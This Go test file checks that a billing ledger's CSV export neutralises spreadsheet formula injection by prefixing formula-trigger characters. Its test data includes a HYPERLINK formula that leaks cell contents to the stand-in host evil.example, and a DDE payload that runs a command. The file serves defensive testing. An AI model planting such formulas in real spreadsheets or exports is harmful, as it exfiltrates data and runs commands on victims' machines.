package ledger_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"strconv"
	"testing"

	"github.com/costgate/costgate/costmodel"
	"github.com/costgate/costgate/ledger"
)

// TestCSVNeutralisesFormulas exports entries whose model (and user) start
// with each character that makes a spreadsheet run a cell as a formula, and
// checks that each such cell gets a leading "'" while other text and every
// number stay as they are.
func TestCSVNeutralisesFormulas(t *testing.T) {
	const payload = `HYPERLINK("https://evil.example/?"&A1,"click")`
	cases := []struct {
		name, model, want string
	}{
		{"equals", "=" + payload, "'=" + payload},
		{"plus", "+" + payload, "'+" + payload},
		{"minus", "-" + payload, "'-" + payload},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab", "\t=" + payload, "'\t=" + payload},
		{"carriage return", "\r=" + payload, "'\r=" + payload},
		{"full-width equals", "＝" + payload, "'＝" + payload},
		{"full-width plus", "＋" + payload, "'＋" + payload},
		{"full-width minus", "－" + payload, "'－" + payload},
		{"full-width at", "＠" + payload, "'＠" + payload},
		{"quote, so the rule can be undone", "'=already", "''=already"},
		{"plain model", "gpt-4o", "gpt-4o"},
		{"formula character inside", "a=b+c-d@e", "a=b+c-d@e"},
		{"empty", "", ""},
		{"leading space", " =1", " =1"},
	}
	l := open(t, ledger.Config{Dir: t.TempDir()})
	ctx := context.Background()
	for i, c := range cases {
		e := reservation(c.name, t0)
		e.Model, e.User = c.model, c.model
		e.EstimatedCost = costmodel.NanoUSD(1_000_000 + i)
		if err := l.Reserve(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	flush(t, l)
	var buf bytes.Buffer
	if err := l.Export(ctx, &buf, ledger.Query{Tenant: "acme"}, "csv"); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	rows := map[string]map[string]string{}
	for _, r := range recs[1:] {
		col := map[string]string{}
		for i, h := range recs[0] {
			col[h] = r[i]
		}
		rows[col["request_id"]] = col
	}
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			col, ok := rows[c.name]
			if !ok {
				t.Fatalf("no row for %q", c.name)
			}
			if col["model"] != c.want || col["user"] != c.want {
				t.Errorf("model %q, user %q, want %q", col["model"], col["user"], c.want)
			}
			if want := strconv.Itoa(1_000_000 + i); col["charge_nanousd"] != want {
				t.Errorf("charge_nanousd %q, want %s", col["charge_nanousd"], want)
			}
			if want := fmt.Sprintf("0.00%d", 1_000_000+i); col["charge_usd"] != want {
				t.Errorf("charge_usd %q, want %s", col["charge_usd"], want)
			}
			if col["input_tokens"] != "0" || col["est_output_tokens"] != "200" || col["http_status"] != "0" ||
				col["created_at"] != "2026-03-14T15:09:26.535897Z" {
				t.Errorf("numbers or times changed: %v", col)
			}
		})
	}
}
